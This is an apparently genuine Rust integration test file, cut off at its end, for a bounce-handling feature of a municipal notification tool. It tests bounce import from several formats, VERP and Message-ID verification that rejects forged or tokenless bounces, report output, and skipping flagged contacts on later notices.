//! Bounces end to end: import from a Maildir, mbox, SES JSON and CSV; attribution by VERP token,
//! returned Message-ID and address; only verified bounces flag (a forged or missing token leaves
//! the contact receiving notices, listed as unverified); the flag policy; the review in four
//! formats; resolve and show; flagged contacts skipped by the next notice; a 5xx at send time as
//! a bounce; hostile text in the output; streamed mbox input.

use std::path::{Path, PathBuf};

use crate::both;
use crate::harness::{Backend, Env, SmtpSink};
use crate::support::smtp_server::{Rule, SmtpServer};

/// A Postfix-shaped DSN delivered to `to`, reporting `rcpt` failed.
fn dsn(
    to: &str,
    rcpt: &str,
    status: &str,
    diag: &str,
    original_message_id: Option<&str>,
) -> String {
    let original = original_message_id
        .map(|m| format!("Message-ID: {m}\r\n"))
        .unwrap_or_default();
    format!(
        "Return-Path: <>\r\nDelivered-To: {to}\r\nFrom: MAILER-DAEMON@mx.austintexas.gov (Mail Delivery System)\r\n\
To: {to}\r\nSubject: Undelivered Mail Returned to Sender\r\nDate: Thu, 03 Dec 2026 17:20:00 -0600\r\n\
Message-ID: <{n}.bounce@mx.austintexas.gov>\r\nAuto-Submitted: auto-replied\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/report; report-type=delivery-status; boundary=\"B\"\r\n\r\n\
--B\r\nContent-Type: text/plain\r\n\r\nI'm sorry to have to inform you that your message could not be delivered.\r\n\r\n\
--B\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.austintexas.gov\r\n\r\n\
Final-Recipient: rfc822; {rcpt}\r\nAction: failed\r\nStatus: {status}\r\nRemote-MTA: dns; mbx.austintexas.gov\r\n\
Diagnostic-Code: smtp; {diag}\r\n\r\n--B\r\nContent-Type: text/rfc822-headers\r\n\r\n\
From: Moped Team <moped@austintexas.gov>\r\nTo: {rcpt}\r\nSubject: Moped v3.12.0 Goliad: release notes\r\n{original}\r\n--B--\r\n",
        n = rcpt.len() * 7919 + status.len(),
    )
}

/// The envelope sender and Message-ID of the outbox message written for `rcpt`.
fn outbox_envelope(outbox: &Path, rcpt: &str) -> (String, String) {
    for dir in std::fs::read_dir(outbox).unwrap().flatten() {
        for f in std::fs::read_dir(dir.path()).unwrap().flatten() {
            if f.file_name()
                .to_string_lossy()
                .ends_with(&format!("-{rcpt}.eml"))
            {
                let text = std::fs::read_to_string(f.path()).unwrap();
                let rp = text
                    .lines()
                    .find_map(|l| l.strip_prefix("Return-Path: "))
                    .unwrap();
                let mid = text
                    .lines()
                    .find_map(|l| l.strip_prefix("Message-ID: "))
                    .unwrap();
                return (rp.trim_matches(['<', '>']).to_string(), mid.to_string());
            }
        }
    }
    panic!("no outbox message for {rcpt}");
}

fn maildir(root: &Path, messages: &[String]) -> PathBuf {
    let md = root.join("Maildir");
    for sub in ["new", "cur", "tmp"] {
        std::fs::create_dir_all(md.join(sub)).unwrap();
    }
    for (i, m) in messages.iter().enumerate() {
        std::fs::write(md.join("new").join(format!("17000000{i}.M1P1.test")), m).unwrap();
    }
    md
}

fn json_rows(out: &str) -> Vec<serde_json::Value> {
    serde_json::from_str::<serde_json::Value>(out)
        .expect("JSON")
        .as_array()
        .expect("array")
        .clone()
}

async fn import_attribute_flag_review_resolve(b: Backend) {
    let mut env = Env::new(b).await;
    env.env("COLUMNS", "120");
    env.run(&["release-notes", "v3.12.0"]).await.ok();
    let a = "james.obrien@austintexas.gov";
    let bb = "priya.raman@austintexas.gov";
    let c = "kevin.le@austintexas.gov";
    let (a_verp, _) = outbox_envelope(&env.outbox(), a);
    let (_, b_mid) = outbox_envelope(&env.outbox(), bb);
    assert!(a_verp.starts_with("moped-bounces+"));
    let plain = "moped-bounces@austintexas.gov";
    let unknown = "left.years.ago@austintexas.gov";
    let md = maildir(
        env.path(),
        &[
            // A: only the VERP address ties it (the DSN names a forwarding target).
            dsn(&a_verp, "j.obrien@exchange.austintexas.gov", "5.1.1", "550 5.1.1 User unknown", None),
            // B: the returned headers carry the Message-ID.
            dsn(plain, bb, "5.1.10", "550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup", Some(&b_mid)),
            // C: nothing but the address: unverified, never flags.
            dsn(plain, c, "5.1.1", "550 5.1.1 <kevin.le@austintexas.gov>: Recipient address rejected: User unknown", None),
            dsn(plain, unknown, "5.1.1", "550 5.1.1 User unknown", None),
            // Not a bounce.
            "From: Maria <maria.gonzalez@austintexas.gov>\r\nTo: moped@austintexas.gov\r\nSubject: Automatic reply: Moped\r\nAuto-Submitted: auto-replied\r\n\r\nI am out of the office until Monday.\r\n".into(),
        ],
    );
    let run = env.import_bounces(&[md.to_str().unwrap()]).await;
    run.ok();
    let s = run.summary();
    assert_eq!(s["bounces"], 4, "{s}");
    assert_eq!(s["hard"], 4);
    assert_eq!(s["not_bounces"], 1);
    assert_eq!(s["unmatched"], 1);
    assert_eq!(s["unverified"], 2, "C and the unknown address: {s}");
    let mut flagged: Vec<&str> = s["flagged"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    flagged.sort();
    assert_eq!(flagged, [a, bb]);

    // The same mailbox again changes nothing.
    let again = env.import_bounces(&[md.to_str().unwrap()]).await;
    again.ok();
    assert_eq!(again.summary()["already_imported"], 4);
    assert_eq!(again.summary()["bounces"], 0);

    // The review, four ways.
    let report = env.run(&["bounces", "report", "--format", "json"]).await;
    report.ok();
    let rows = json_rows(&report.stdout);
    assert_eq!(rows.len(), 2);
    assert!(rows.iter().all(|r| r["email"] != c));
    let row = |e: &str| rows.iter().find(|r| r["email"] == e).unwrap().clone();
    assert_eq!(row(a)["bounces"], 1);
    assert_eq!(row(a)["reason"], "userunknown");
    assert_eq!(row(a)["kind"], "hard");
    assert_eq!(row(a)["permanent"], true);
    assert_eq!(row(a)["action"], "deactivate in Moped");
    assert_eq!(row(a)["user_id"], 2);
    assert_eq!(
        row(a)["notices"],
        serde_json::json!(["release-notes/v3.12.0"])
    );
    assert_eq!(
        row(bb)["notices"],
        serde_json::json!(["release-notes/v3.12.0"])
    );
    assert!(row(bb)["last_diagnostic"]
        .as_str()
        .unwrap()
        .contains("RecipientNotFound"));
    let csv_out = env.run(&["bounces", "report", "--format", "csv"]).await;
    csv_out.ok();
    let mut rdr = csv::Reader::from_reader(csv_out.stdout.as_bytes());
    assert!(rdr
        .headers()
        .unwrap()
        .iter()
        .any(|h| h == "last_diagnostic"));
    let records: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    // The two accounts, an empty record, the unverified heading, its header, C's bounce.
    assert_eq!(records.len(), 6, "{}", csv_out.stdout);
    assert!(records[2].iter().all(str::is_empty));
    assert!(records[3][0].starts_with("Unverified bounces"));
    assert_eq!(&records[4][0], "email");
    assert_eq!(&records[5][0], c);
    assert_eq!(&records[5][11], "no token and no Message-ID of ours");
    let html = env.run(&["bounces", "report", "--format", "html"]).await;
    html.ok();
    assert!(html.stdout.starts_with("<!DOCTYPE html>") && html.stdout.contains("<table>"));
    assert!(!html.stdout.contains("<script") && !html.stdout.contains("src=\"http"));
    for e in [a, bb, c] {
        assert!(html.stdout.contains(e));
    }
    let unverified_at = html
        .stdout
        .find("<h2>Unverified bounces")
        .expect("own heading");
    assert!(html.stdout[unverified_at..].contains(c));
    assert!(!html.stdout[unverified_at..].contains(a));
    let table = env.run(&["bounces", "report"]).await;
    table.ok();
    assert!(
        table.stdout.contains("2 accounts to update"),
        "{}",
        table.stdout
    );
    assert!(table.stdout.contains("1 bounce(s) matched no contact"));
    let (flagged_part, unverified_part) = table
        .stdout
        .split_once("Unverified bounces")
        .expect("an unverified section");
    assert!(!flagged_part.contains(c), "{}", table.stdout);
    assert!(
        unverified_part.contains(c) && unverified_part.contains("no token and no Message-ID"),
        "{}",
        table.stdout
    );
    for line in table.stdout.lines() {
        assert!(line.chars().count() <= 120, "table fits a terminal: {line}");
    }

    // The next notice skips the flagged contacts (both are users) and counts them; C, with
    // only an unverified bounce, gets it.
    let run = env.run(&["maintenance-end", "--format", "json"]).await;
    run.ok();
    assert_eq!(run.summary()["skipped"], 2);
    let written: Vec<String> = std::fs::read_dir(env.outbox())
        .unwrap()
        .flatten()
        .filter(|d| {
            d.file_name()
                .to_string_lossy()
                .starts_with("maintenance-end")
        })
        .flat_map(|d| std::fs::read_dir(d.path()).unwrap().flatten())
        .map(|f| f.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(!written.is_empty());
    for e in [a, bb] {
        assert!(
            !written.iter().any(|f| f.ends_with(&format!("-{e}.eml"))),
            "{e} skipped"
        );
    }
    assert!(written.iter().any(|f| f.ends_with(&format!("-{c}.eml"))));

    // Resolve one: kept in history, flag lifted, gone from the review.
    env.run(&[
        "bounces",
        "resolve",
        "James.OBrien@austintexas.gov",
        "--note",
        "new address requested from HR",
    ])
    .await
    .ok();
    let rows = json_rows(
        &env.run(&["bounces", "report", "--format", "json"])
            .await
            .stdout,
    );
    assert_eq!(rows.len(), 1);
    let show = env.run(&["bounces", "show", a]).await;
    show.ok();
    assert!(
        show.stdout
            .contains("resolved: new address requested from HR"),
        "{}",
        show.stdout
    );
    assert!(
        show.stdout
            .contains("flagged: hard bounce (userunknown, 5.1.1) on release-notes/v3.12.0"),
        "{}",
        show.stdout
    );
    assert!(
        show.stdout.contains("diagnostic: 550 5.1.1 User unknown"),
        "{}",
        show.stdout
    );
    assert!(show.stdout.contains("matched by verp"), "{}", show.stdout);
    let raw = env.run(&["bounces", "show", a, "--raw"]).await;
    assert!(raw.stdout.contains("Undelivered Mail Returned to Sender"));
    let unmatched = env.run(&["bounces", "show", unknown]).await;
    unmatched.ok();
    assert!(
        unmatched.stdout.contains("not a contact"),
        "{}",
        unmatched.stdout
    );
    env.run(&["bounces", "resolve", "nobody@example.org"])
        .await
        .code(2);
    env.cleanup().await;
}
both!(import_attribute_flag_review_resolve);

async fn soft_bounces_flag_after_three_and_ses_and_csv_are_read(b: Backend) {
    let env = Env::new(b).await;
    env.run(&[
        "contacts",
        "import",
        env.path().join("contacts.csv").to_str().unwrap(),
    ])
    .await
    .ok();
    let full = "hannah.fischer@austintexas.gov";
    let csv_path = env.path().join("soft.csv");
    std::fs::write(&csv_path, format!("email,type,reason,date\n{full},soft,552 5.2.2 mailbox full,2026-11-20\n{full},transient,Mailbox quota exceeded,2026-11-24\n")).unwrap();
    let run = env.import_bounces(&[csv_path.to_str().unwrap()]).await;
    run.ok();
    assert_eq!(run.summary()["soft"], 2);
    assert_eq!(
        run.summary()["flagged"],
        serde_json::json!([]),
        "two soft bounces do not flag"
    );
    std::fs::write(
        &csv_path,
        format!("email,type,reason,date\n{full},soft,552 5.2.2 mailbox full,2026-11-25\n"),
    )
    .unwrap();
    let run = env.import_bounces(&[csv_path.to_str().unwrap()]).await;
    assert_eq!(
        run.summary()["flagged"],
        serde_json::json!([full]),
        "the third does"
    );
    let rows = json_rows(
        &env.run(&["bounces", "report", "--format", "json"])
            .await
            .stdout,
    );
    assert_eq!(rows[0]["kind"], "soft");
    assert_eq!(rows[0]["bounces"], 3);
    assert_eq!(rows[0]["reason"], "mailboxfull");
    assert_eq!(rows[0]["action"], "wait");

    // A bad CSV row: named, nothing imported.
    std::fs::write(
        &csv_path,
        "email,type,reason\nok@austintexas.gov,hard,gone\nbroken,hard,gone\n",
    )
    .unwrap();
    let bad = env
        .run(&["bounces", "import", csv_path.to_str().unwrap()])
        .await;
    bad.code(2);
    assert!(
        bad.stderr.contains("soft.csv:3:") && bad.stderr.contains("broken"),
        "{}",
        bad.stderr
    );

    // An SES notification through SNS: every recipient, Delivery events ignored.
    let ses = serde_json::json!({
        "notificationType": "Bounce",
        "bounce": {"feedbackId": "fb-1", "bounceType": "Permanent", "bounceSubType": "General",
            "timestamp": "2026-12-03T23:10:00.000Z",
            "bouncedRecipients": [
                {"emailAddress": "dana.whitfield@austintexas.gov", "status": "5.1.1", "diagnosticCode": "smtp; 550 5.1.1 user unknown"},
                {"emailAddress": "ben.kowalski@austintexas.gov", "status": "5.1.1", "diagnosticCode": "smtp; 550 5.1.1 user unknown"}]},
        "mail": {"source": "moped-bounces@austintexas.gov", "destination": ["dana.whitfield@austintexas.gov"]}
    });
    let sns = serde_json::json!({"Type": "Notification", "MessageId": "sns-1", "Message": ses.to_string()});
    let delivery = serde_json::json!({"notificationType": "Delivery", "mail": {}, "delivery": {"recipients": ["a@austintexas.gov"]}});
    std::fs::write(env.path().join("sns.json"), sns.to_string()).unwrap();
    std::fs::write(env.path().join("delivery.json"), delivery.to_string()).unwrap();
    let run = env
        .import_bounces(&[
            env.path().join("sns.json").to_str().unwrap(),
            env.path().join("delivery.json").to_str().unwrap(),
        ])
        .await;
    run.ok();
    assert_eq!(run.summary()["bounces"], 2);
    assert_eq!(run.summary()["not_bounces"], 1);
    // Neither a token nor a Message-ID of ours: both unverified, nobody newly flagged.
    assert_eq!(run.summary()["unverified"], 2);
    assert_eq!(run.summary()["flagged"], serde_json::json!([]));
    let rows = json_rows(
        &env.run(&["bounces", "report", "--format", "json"])
            .await
            .stdout,
    );
    assert_eq!(rows.len(), 1);
    let unverified = json_rows(
        &env.run(&["bounces", "report", "--unverified", "--format", "json"])
            .await
            .stdout,
    );
    let mut emails: Vec<&str> = unverified
        .iter()
        .map(|u| u["email"].as_str().unwrap())
        .collect();
    emails.sort();
    assert_eq!(
        emails,
        [
            "ben.kowalski@austintexas.gov",
            "dana.whitfield@austintexas.gov"
        ]
    );

    // An mbox with the same SES-free DSN twice counts once.
    let m = dsn(
        "moped-bounces@austintexas.gov",
        "sofia.herrera@austintexas.gov",
        "5.1.1",
        "550 5.1.1 User unknown",
        None,
    );
    let mbox = format!("From MAILER-DAEMON Thu Dec  3 17:20:00 2026\n{m}\nFrom MAILER-DAEMON Thu Dec  3 17:21:00 2026\n{m}\n").replace("\r\n", "\n");
    std::fs::write(env.path().join("bounces.mbox"), mbox).unwrap();
    let run = env
        .import_bounces(&[env.path().join("bounces.mbox").to_str().unwrap()])
        .await;
    run.ok();
    assert_eq!(run.summary()["read"], 2);
    assert_eq!(run.summary()["bounces"], 1);
    assert_eq!(run.summary()["already_imported"], 1);
    env.cleanup().await;
}
both!(soft_bounces_flag_after_three_and_ses_and_csv_are_read);

async fn a_5xx_at_send_time_is_a_bounce_and_the_next_notice_skips_it(b: Backend) {
    let env = Env::new(b).await;
    let gone = "ben.kowalski@austintexas.gov";
    let server = SmtpServer::start(vec![Rule::RejectRcpt {
        address: gone.into(),
        reply: format!(
            "550 5.1.1 <{gone}>: Recipient address rejected: User unknown in local recipient table"
        ),
    }])
    .await;
    env.run(&[
        "maintenance-scheduled",
        "--start",
        "2026-12-03 17:00",
        "--end",
        "2026-12-03 19:00",
        "--allow-past",
        "--smtp-url",
        &server.url(),
    ])
    .await
    .ok();
    server.stop().await;
    let rows = json_rows(
        &env.run(&["bounces", "report", "--format", "json"])
            .await
            .stdout,
    );
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["email"], gone);
    assert_eq!(rows[0]["reason"], "userunknown");
    assert_eq!(rows[0]["status"], "5.1.1");
    assert_eq!(rows[0]["permanent"], true);
    assert_eq!(rows[0]["action"], "deactivate in Moped");
    assert_eq!(
        rows[0]["notices"],
        serde_json::json!(["maintenance-scheduled/v3.12.0"])
    );

    let sink = SmtpSink::start();
    let run = env
        .send_json(&["maintenance-start", "--until", "23:59"], &sink.url())
        .await;
    run.ok();
    assert_eq!(run.summary()["skipped"], 1);
    assert!(sink
        .messages()
        .iter()
        .all(|m| m.rcpt_to != vec![gone.to_string()]));

    // Once resolved, the next notice reaches the address again.
    env.run(&["bounces", "resolve", gone, "--note", "mailbox restored"])
        .await
        .ok();
    let run = env.send_json(&["maintenance-end"], &sink.url()).await;
    run.ok();
    assert_eq!(run.summary()["skipped"], 0);
    assert!(sink
        .messages()
        .iter()
        .any(|m| m.rcpt_to == vec![gone.to_string()]));
    env.cleanup().await;
}
both!(a_5xx_at_send_time_is_a_bounce_and_the_next_notice_skips_it);

#[tokio::test]
async fn parse_prints_one_json_line_per_input() {
    let env = Env::new(Backend::Sqlite).await;
    let fixtures = Path::new(crate::harness::REPO).join("tests/fixtures/bounces");
    let o365 = fixtures.join("office365_ndr.eml");
    let ooo = fixtures.join("ooo_outlook.eml");
    let run = env
        .run(&[
            "bounces",
            "parse",
            "--format",
            "json",
            o365.to_str().unwrap(),
            ooo.to_str().unwrap(),
        ])
        .await;
    run.ok();
    let lines: Vec<serde_json::Value> = run
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(lines[0]["source"], o365.to_str().unwrap());
    assert_eq!(
        lines[0]["bounces"][0]["address"],
        "jane.doe@austintexas.gov"
    );
    assert_eq!(lines[0]["bounces"][0]["kind"], "hard");
    assert_eq!(lines[0]["bounces"][0]["status"], "5.1.10");
    assert_eq!(lines[1]["bounces"], serde_json::json!([]));
    assert!(
        !env.path().join("notify.db").exists(),
        "parse needs no database"
    );
    let missing = env.run(&["bounces", "parse", "/nonexistent.eml"]).await;
    missing.code(2);
    assert!(missing.stderr.contains("/nonexistent.eml"));
}

#[tokio::test]
async fn an_oversized_message_is_skipped_with_a_clear_line() {
    let env = Env::new(Backend::Sqlite).await;
    let big = env.path().join("huge.eml");
    let mut data = b"From: MAILER-DAEMON@mx.example.org\r\nSubject: Undelivered Mail Returned to Sender\r\n\r\nFinal-Recipient: rfc822; a@austintexas.gov\r\nStatus: 5.1.1\r\n".to_vec();
    data.resize(11 * 1024 * 1024, b'x');
    std::fs::write(&big, &data).unwrap();
    let run = env
        .run(&[
            "bounces",
            "parse",
            "--format",
            "json",
            big.to_str().unwrap(),
        ])
        .await;
    run.ok();
    assert!(
        run.stderr.contains("skipped")
            && run.stderr.contains("huge.eml")
            && run.stderr.contains("limit"),
        "{}",
        run.stderr
    );
    let line: serde_json::Value = serde_json::from_str(run.stdout.trim()).unwrap();
    assert_eq!(line["bounces"], serde_json::json!([]));
    let run = env.import_bounces(&[big.to_str().unwrap()]).await;
    run.ok();
    assert_eq!(run.summary()["skipped"], 1);
    assert_eq!(run.summary()["bounces"], 0);
}

async fn a_new_address_in_the_export_lifts_the_flag(b: Backend) {
    let env = Env::new(b).await;
    env.run(&[
        "contacts",
        "import",
        env.path().join("contacts.csv").to_str().unwrap(),
    ])
    .await
    .ok();
    let csv_path = env.path().join("b.csv");
    std::fs::write(
        &csv_path,
        "email,type,reason\nkevin.le@austintexas.gov,hard,550 5.1.1 user unknown\n",
    )
    .unwrap();
    let run = env.import_bounces(&[csv_path.to_str().unwrap()]).await;
    assert_eq!(
        run.summary()["flagged"],
        serde_json::json!(["kevin.le@austintexas.gov"])
    );
    let run = env.run(&["maintenance-end", "--format", "json"]).await;
    assert_eq!(run.summary()["skipped"], 1);

    // The admin fixes the address in Moped; the next export carries it.
    let csv = std::fs::read_to_string(env.path().join("contacts.csv"))
        .unwrap()
        .replace("kevin.le@austintexas.gov", "kevin.le2@austintexas.gov");
    env.set_contacts(&csv);
    let run = env
        .run(&["maintenance-start", "--until", "23:59", "--format", "json"])
        .await;
    run.ok();
    assert_eq!(run.summary()["skipped"], 0);
    assert_eq!(
        json_rows(
            &env.run(&["bounces", "report", "--format", "json"])
                .await
                .stdout
        )
        .len(),
        0
    );
    let show = env
        .run(&["bounces", "show", "kevin.le2@austintexas.gov"])
        .await;
    assert!(
        show.stdout
            .contains("address-changed: kevin.le@austintexas.gov -> kevin.le2@austintexas.gov"),
        "{}",
        show.stdout
    );
    env.cleanup().await;
}
both!(a_new_address_in_the_export_lifts_the_flag);

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn imap_import_moves_recognised_bounces_and_leaves_the_rest() {
    use crate::support::dovecot::Dovecot;
    let mut env = Env::new(Backend::Sqlite).await;
    env.run(&["release-notes", "v3.12.0"]).await.ok();
    let gone = "emily.sato@austintexas.gov";
    let (verp, _) = outbox_envelope(&env.outbox(), gone);
    let bounce = dsn(&verp, gone, "5.1.1", "550 5.1.1 User unknown", None);
    let ooo = "From: Maria <maria.gonzalez@austintexas.gov>\r\nTo: moped@austintexas.gov\r\nSubject: Automatic reply\r\nAuto-Submitted: auto-replied\r\nDate: Thu, 03 Dec 2026 17:20:00 -0600\r\n\r\nOut of office.\r\n";
    let server = Dovecot::start(
        "moped-bounces",
        "imap-s3cret",
        &[("1.bounce", bounce.as_bytes()), ("2.ooo", ooo.as_bytes())],
    );
    env.env("NOTIFY_IMAP_PASSWORD", "imap-s3cret");
    let url = server.url("INBOX");
    let run = env.import_bounces(&["--imap", &url]).await;
    run.ok();
    let s = run.summary();
    assert_eq!(s["bounces"], 1, "{s}");
    assert_eq!(s["not_bounces"], 1);
    assert_eq!(s["moved"], 1);
    assert_eq!(s["flagged"], serde_json::json!([gone]));
    assert_eq!(
        server.messages_on_disk(None).len(),
        1,
        "the out-of-office stays"
    );
    assert_eq!(server.messages_on_disk(Some("notify-processed")).len(), 1);
    let show = env.run(&["bounces", "show", gone]).await;
    assert!(
        show.stdout.contains("matched by verp") && show.stdout.contains("from imap:INBOX/"),
        "{}",
        show.stdout
    );

    // Running again finds only the out-of-office: nothing new.
    let run = env.import_bounces(&["--imap", &url]).await;
    run.ok();
    assert_eq!(run.summary()["bounces"], 0);
    assert_eq!(run.summary()["moved"], 0);

    // A wrong password is an error that does not show it.
    env.env("NOTIFY_IMAP_PASSWORD", "not-the-password");
    let run = env.run(&["bounces", "import", "--imap", &url]).await;
    run.code(1);
    assert!(!run.stderr.contains("not-the-password"), "{}", run.stderr);
}

/// The envelope sender and Message-ID of the message smtp-sink received for `rcpt`.
fn sink_envelope(sink: &SmtpSink, rcpt: &str) -> (String, String) {
    let m = sink
        .messages()
        .into_iter()
        .find(|m| m.rcpt_to.iter().any(|r| r.eq_ignore_ascii_case(rcpt)))
        .unwrap_or_else(|| panic!("no message for {rcpt}"));
    let text = String::from_utf8_lossy(&m.raw).into_owned();
    let mid = text
        .lines()
        .find_map(|l| l.strip_prefix("Message-ID: "))
        .expect("a Message-ID")
        .trim()
        .to_string();
    (m.mail_from, mid)
}

/// Did smtp-sink receive a message for `rcpt`?
fn received(sink: &SmtpSink, rcpt: &str) -> bool {
    sink.messages()
        .iter()
        .any(|m| m.rcpt_to.iter().any(|r| r.eq_ignore_ascii_case(rcpt)))
}

async fn forged_and_tokenless_bounces_never_flag_a_genuine_one_does(b: Backend) {
    let env = Env::new(b).await;
    let sink = SmtpSink::start();
    env.send_json(&["release-notes", "v3.12.0"], &sink.url())
        .await
        .ok();
    let genuine = "james.obrien@austintexas.gov";
    let forged = "priya.raman@austintexas.gov";
    let tokenless = "kevin.le@austintexas.gov";
    let by_ses = "emily.sato@austintexas.gov";
    let (genuine_verp, _) = sink_envelope(&sink, genuine);
    assert!(genuine_verp.starts_with("moped-bounces+"), "{genuine_verp}");
    // The forger knows the scheme and the victim's send id but not the secret: the last hex
    // digit of the MAC changed.
    let (real, _) = sink_envelope(&sink, forged);
    let (local, domain) = real.split_once('@').unwrap();
    let last = local.chars().last().unwrap();
    let swapped = if last == '0' { '1' } else { '0' };
    let forged_verp = format!("{}{swapped}@{domain}", &local[..local.len() - 1]);
    let (_, ses_mid) = sink_envelope(&sink, by_ses);
    let md = maildir(
        env.path(),
        &[
            dsn(
                &genuine_verp,
                genuine,
                "5.1.1",
                "550 5.1.1 User unknown",
                None,
            ),
            dsn(
                &forged_verp,
                forged,
                "5.1.1",
                "550 5.1.1 User unknown",
                None,
            ),
            dsn(
                "moped-bounces@austintexas.gov",
                tokenless,
                "5.1.1",
                "550 5.1.1 User unknown",
                Some("<not-ours@elsewhere.example>"),
            ),
        ],
    );
    // SES: no token either, but the notification's mail object carries our Message-ID.
    let ses = serde_json::json!({
        "notificationType": "Bounce",
        "bounce": {"feedbackId": "fb-ours", "bounceType": "Permanent", "bounceSubType": "General",
            "timestamp": "2026-12-03T23:10:00.000Z",
            "bouncedRecipients": [{"emailAddress": by_ses, "status": "5.1.1", "diagnosticCode": "smtp; 550 5.1.1 user unknown"}]},
        "mail": {"source": "moped-bounces@austintexas.gov", "destination": [by_ses],
                 "commonHeaders": {"messageId": ses_mid}}
    });
    let ses_path = env.path().join("ses.json");
    std::fs::write(&ses_path, ses.to_string()).unwrap();
    let run = env
        .import_bounces(&[md.to_str().unwrap(), ses_path.to_str().unwrap()])
        .await;
    run.ok();
    let s = run.summary();
    assert_eq!(s["bounces"], 4, "{s}");
    assert_eq!(s["hard"], 4, "{s}");
    assert_eq!(s["unverified"], 2, "{s}");
    let mut flagged: Vec<&str> = s["flagged"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    flagged.sort();
    assert_eq!(flagged, [by_ses, genuine], "{s}");

    // JSON stays the flagged accounts only.
    let rows = json_rows(
        &env.run(&["bounces", "report", "--format", "json"])
            .await
            .stdout,
    );
    let mut emails: Vec<&str> = rows.iter().map(|r| r["email"].as_str().unwrap()).collect();
    emails.sort();
    assert_eq!(emails, [by_ses, genuine]);
    // The table lists the unverified ones under their own heading, with why.
    let table = env.run(&["bounces", "report"]).await;
    table.ok();
    let (flagged_part, unverified_part) = table
        .stdout
        .split_once("Unverified bounces")
        .unwrap_or_else(|| panic!("no unverified section:\n{}", table.stdout));
    assert!(
        flagged_part.contains("2 accounts to update"),
        "{}",
        table.stdout
    );
    assert!(!flagged_part.contains(forged) && !flagged_part.contains(tokenless));
    let line_of = |e: &str| {
        unverified_part
            .lines()
            .find(|l| l.contains(e))
            .unwrap_or_else(|| panic!("{e} not listed:\n{}", table.stdout))
            .to_string()
    };
    assert!(line_of(forged).contains("VERP token failed its check"));
    assert!(line_of(tokenless).contains("no token, and the returned Message-ID is not one of ours"));
    let unverified = env
        .run(&["bounces", "report", "--unverified", "--format", "json"])
        .await;
    unverified.ok();
    let rows = json_rows(&unverified.stdout);
    assert_eq!(rows.len(), 2, "{}", unverified.stdout);
    let why = |e: &str| {
        rows.iter()
            .find(|r| r["email"] == e)
            .map(|r| r["why"].as_str().unwrap().to_string())
            .unwrap()
    };
    assert_eq!(why(forged), "VERP token failed its check");
    assert!(why(tokenless).starts_with("no token"));
    let only = env.run(&["bounces", "report", "--unverified"]).await;
    only.ok();
    assert!(only.stdout.contains("Unverified bounces") && !only.stdout.contains(genuine));
    let show = env.run(&["bounces", "show", forged]).await;
    assert!(
        show.stdout.contains("UNVERIFIED")
            && show
                .stdout
                .contains("unverified (not counted): VERP token failed its check"),
        "{}",
        show.stdout
    );
    let show = env.run(&["bounces", "show", genuine]).await;
    assert!(!show.stdout.contains("UNVERIFIED"), "{}", show.stdout);

    // The next notice reaches the forged and token-less ones, not the flagged ones.
    let next = SmtpSink::start();
    let run = env
        .send_json(&["maintenance-start", "--until", "23:59"], &next.url())
        .await;
    run.ok();
    assert_eq!(run.summary()["skipped"], 2, "{}", run.stdout);
    assert!(received(&next, forged), "forged: still receives");
    assert!(received(&next, tokenless), "token-less: still receives");
    assert!(!received(&next, genuine), "genuine: skipped");
    assert!(!received(&next, by_ses), "SES with our Message-ID: skipped");

    // Unverified soft bounces do not add up to a flag either.
    let soft: Vec<String> = (0..4)
        .map(|i| {
            dsn(
                "moped-bounces@austintexas.gov",
                forged,
                "4.2.2",
                &format!("452 4.2.2 Mailbox full ({i})"),
                None,
            )
        })
        .collect();
    let soft_dir = env.path().join("soft");
    std::fs::create_dir_all(&soft_dir).unwrap();
    for (i, m) in soft.iter().enumerate() {
        std::fs::write(soft_dir.join(format!("{i}.eml")), m).unwrap();
    }
    let run = env.import_bounces(&[soft_dir.to_str().unwrap()]).await;
    run.ok();
    assert_eq!(run.summary()["unverified"], 4, "{}", run.stdout);
    assert_eq!(run.summary()["flagged"], serde_json::json!([]));
    env.cleanup().await;
}
both!(forged_and_tokenless_bounces_never_flag_a_genuine_one_does);

async fn a_csv_row_that_does_not_say_hard_or_soft_is_refused(b: Backend) {
    let env = Env::new(b).await;
    env.run(&[
        "contacts",
        "import",
        env.path().join("contacts.csv").to_str().unwrap(),
    ])
    .await
    .ok();
    let csv_path = env.path().join("vague.csv");
    std::fs::write(
        &csv_path,
        "email,type,reason\nkevin.le@austintexas.gov,hard,550 5.1.1 user unknown\nhannah.fischer@austintexas.gov,,\nemily.sato@austintexas.gov,,something went wrong\n",
    )
    .unwrap();
    let run = env
        .run(&["bounces", "import", csv_path.to_str().unwrap()])
        .await;
    run.code(2);
    assert!(
        run.stderr.contains("vague.csv:3:") && run.stderr.contains("no type and no reason"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains("vague.csv:4:") && run.stderr.contains("something went wrong"),
        "{}",
        run.stderr
    );
    // Nothing imported, not even the good row.
    let show = env
        .run(&["bounces", "show", "kevin.le@austintexas.gov"])
        .await;
    show.ok();
    assert!(show.stdout.contains("bounces (0):"), "{}", show.stdout);
    assert_eq!(
        json_rows(
            &env.run(&["bounces", "report", "--format", "json"])
                .await
                .stdout
        )
        .len(),
        0
    );
    // Without a type column a recognised reason decides; an admin's CSV needs no token.
    std::fs::write(
        &csv_path,
        "email,reason\nkevin.le@austintexas.gov,550 5.1.1 user unknown\nhannah.fischer@austintexas.gov,552 5.2.2 mailbox full\n",
    )
    .unwrap();
    let run = env.import_bounces(&[csv_path.to_str().unwrap()]).await;
    run.ok();
    assert_eq!(run.summary()["hard"], 1);
    assert_eq!(run.summary()["soft"], 1);
    assert_eq!(run.summary()["unverified"], 0);
    assert_eq!(
        run.summary()["flagged"],
        serde_json::json!(["kevin.le@austintexas.gov"])
    );
    env.cleanup().await;
}
both!(a_csv_row_that_does_not_say_hard_or_soft_is_refused);

/// A bounce CSV whose `reason` column names reasons, today's or earlier ones, in any case: each
